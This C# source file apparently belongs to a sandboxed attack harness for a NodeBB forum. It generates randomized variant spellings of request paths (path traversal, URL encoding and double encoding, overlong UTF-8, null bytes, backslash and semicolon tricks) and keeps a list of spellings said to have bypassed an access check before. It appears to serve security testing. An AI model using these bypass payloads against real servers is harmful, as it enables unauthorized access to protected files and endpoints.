namespace NodeBBInfra.Sandbox.Attack.Requests;

/// <summary>
/// Alternative spellings of a path, which some program between visitor and disk resolves to the same file and another does not. Each has
/// only a few changes: with too many, the first program refuses it.
/// </summary>
internal sealed class Spellings(Random random)
{
    private static readonly string[] Separators =
    [
        "\\",
        "//",
        "/./",
        "/.//",
        "\\/",
        "/\\",
        "\\.\\",
        "/.\\",
        "\\./",
        "%2f",
        "%2F",
        "%5c",
        "%5C",
        "/%2e/",
        "/%2e%2f",
        "/x/../",
        "/x/%2e%2e/",
        "\\x\\..\\",
        "/x%2f..%2f",
        "/x%5c..%5c",
        ";/",
        "/;/",
        "/;x=1/",
        "/%20/../",
        "%252f",
        "%255c",
        "%c0%af",
        "/..;/x/../",
        "/\t/",
        "/%09/../",
        "/%00/../",
        "\u00e2\u0081\u0084",
        "///",
        "/.%2f",
        "/%2e\\",
    ];

    private static readonly string[] Ends =
    [
        "?",
        "?a=#",
        "#",
        "#x",
        "?#",
        "?a=#.css",
        ".html#",
        ".css#",
        "%23",
        "%23.css",
        ";",
        ";.css",
        "%3b.css",
        "%00",
        "%00.css",
        "%0a",
        "/",
        "\\",
        "/.",
        "/x/..",
        "\\..\\x",
        " ",
        "%20",
        "\t",
        "\u007f",
        "\u0001",
        ".",
        "%2e",
        "?v=1",
        "?v=1#/../x",
        "%3f",
        "%3f.css",
        "?%23",
        "??",
        "&x",
        "/%2e",
        "//",
        "..\\",
        "?a=\\",
    ];

    private static readonly string[] Starts =
    [
        "/",
        "\\",
        "/./",
        "/x/..",
        "//",
        "/%2e",
        "/%2f",
        "/%5c",
        "/x/%2e%2e",
        "http://{0}",
        "https://{0}",
        "HTTP://{0}:443",
        "http://{0}\\",
        "https://elsewhere.example",
        "//elsewhere.example/..",
        "/socket.io/..",
        "/api/..",
        "/.well-known/../",
    ];

    /// <summary>Spellings that bypassed the check in the past and are always tried.</summary>
    public static IReadOnlyList<string> Known(string path)
    {
        var parts = path.Split('/', StringSplitOptions.RemoveEmptyEntries);
        var rest = string.Join('\\', parts[1..]);
        var slashed = string.Join('/', parts[1..]);
        return
        [
            $"/{parts[0]}\\.\\{rest}?a=#",
            $"/{parts[0].ToUpperInvariant()}\\{rest}#",
            $"/{parts[0]}\\{rest}.html#",
            $"/{parts[0]}\\{rest}",
            $"/{parts[0]}/{rest}",
            $"/{parts[0]}\\{slashed}#",
            $"/{parts[0].ToUpperInvariant()}/{slashed}",
            $"/{parts[0]}/..%2f{parts[0]}/{slashed}",
            $"/{parts[0]}//{slashed}",
            $"/{parts[0]}/%2e/{slashed}",
            $"/x/..\\{parts[0]}\\{rest}#",
        ];
    }

    /// <summary>A random spelling of a path.</summary>
    /// <param name="path">The path with its leading slash.</param>
    /// <param name="host">The forum's hostname, for request lines with an absolute URL.</param>
    public string Of(string path, string host)
    {
        var parts = path.Split('/', StringSplitOptions.RemoveEmptyEntries);
        var separators = Enumerable.Repeat("/", parts.Length).ToArray();
        var (start, end) = ("", "");
        for (var bends = random.Next(1, 5); bends > 0; bends--)
        {
            switch (random.Next(10))
            {
                case < 4:
                    separators[random.Next(parts.Length)] = Pick(Separators);
                    break;
                case < 6:
                    end = Pick(Ends);
                    break;
                case 6:
                    start = string.Format(System.Globalization.CultureInfo.InvariantCulture, Pick(Starts), host);
                    break;
                case 7:
                    separators = [.. separators.Select(_ => "\\")];
                    separators[0] = "/";
                    break;
                default:
                    var at = random.Next(parts.Length);
                    parts[at] = Letters(parts[at]);
                    break;
            }
        }
        var spelt = start + string.Concat(parts.Zip(separators, (part, separator) => separator + part)) + end;
        // A line break would end the request line, a blank the target.
        return spelt.Replace("\n", "", StringComparison.Ordinal).Replace("\r", "", StringComparison.Ordinal);
    }

    private string Letters(string part) =>
        random.Next(4) switch
        {
            0 => part.ToUpperInvariant(),
            1 => string.Concat(part.Select(c => random.Next(3) == 0 ? char.ToUpperInvariant(c) : c)),
            2 => string.Concat(part.Select(c => random.Next(4) == 0 ? $"%{(int)c:x2}" : $"{c}")),
            _ => string.Concat(part.Select(c => random.Next(8) == 0 ? $"%25{(int)c:x2}" : $"{c}")),
        };

    private string Pick(string[] list) => list[random.Next(list.Length)];
}
